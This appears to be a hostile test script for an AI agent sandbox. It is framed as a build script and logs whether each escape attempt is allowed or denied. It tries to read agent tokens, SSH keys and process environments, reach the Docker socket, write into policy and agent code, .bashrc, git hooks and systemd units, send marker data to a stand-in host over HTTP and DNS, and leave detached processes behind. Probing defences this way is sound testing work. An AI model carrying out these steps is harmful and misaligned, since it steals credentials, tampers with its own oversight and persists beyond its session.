# A build script that tries what tests/hostile/ways tries, with a shell's means. `world.sh` says where its targets are.
. ./hostile/world.sh
mark="HOSTILE-$LEVEL"

say() {
    printf '{"way": "%s", "kind": "%s", "detail": "%s"}\n' "$1" "$2" "$3" >>hostile/results.jsonl
}

try() {
    way=$1
    shift
    if "$@" >/dev/null 2>&1; then say "$way" got "$*"; else say "$way" denied "$*"; fi
}

plant() {
    way=$1
    mkdir -p "${2%/*}" 2>/dev/null
    if (echo "# $mark" >>"$2") 2>/dev/null; then say "$way" wrote "$2"; else say "$way" denied "$2"; fi
}

try read-agent-token grep -q shield_agent_ "$SHIELD_HOME/tokens/agent.token"
try read-audit-log grep -q SQLite "$SHIELD_HOME/audit.db"
try read-ssh-key grep -q "$SECRET" "$USER_HOME/.ssh/id_rsa"
try read-environment grep -q "$SECRET" "/proc/$VICTIM/environ"
try stop-agentctl kill -CONT "$AGENT"
try stop-shield kill -CONT "$SHIELD"
try connect-to-the-socket curl -s -m 3 --unix-socket "$SOCKET" http://shield/healthz
try docker curl -s -m 3 --unix-socket /run/docker.sock http://docker/info
try user-namespace-by-program unshare -Ur true
plant write-policy "$SHIELD_HOME/policies/mine.yaml"
plant write-agent-configuration "$AGENT_CONFIG"
plant write-code-of-agentctl "$AGENTCTL/execute.py"
plant add-pth "$SITE/zz.pth"
plant bashrc "$USER_HOME/.bashrc"
plant git-hook .git/hooks/pre-commit
plant systemd-user-unit "$USER_HOME/.config/systemd/user/zz.service"
curl -s -m 3 --noproxy '*' "http://$ELSEWHERE:$WEB/$mark-sh" >/dev/null 2>&1
say http sent "$mark-sh"
getent hosts "$mark-getent.exfil.example" >/dev/null 2>&1
say dns sent "$mark-getent"
setsid sh -c 'trap "" HUP TERM; exec sleep 119 </dev/null >/dev/null 2>&1' "$mark-shell" &
setsid python3 -c 'import sys, time; time.sleep(119)' "$mark-shell" </dev/null >/dev/null 2>&1 &
sleep 0.3
say daemon left "$mark-shell"
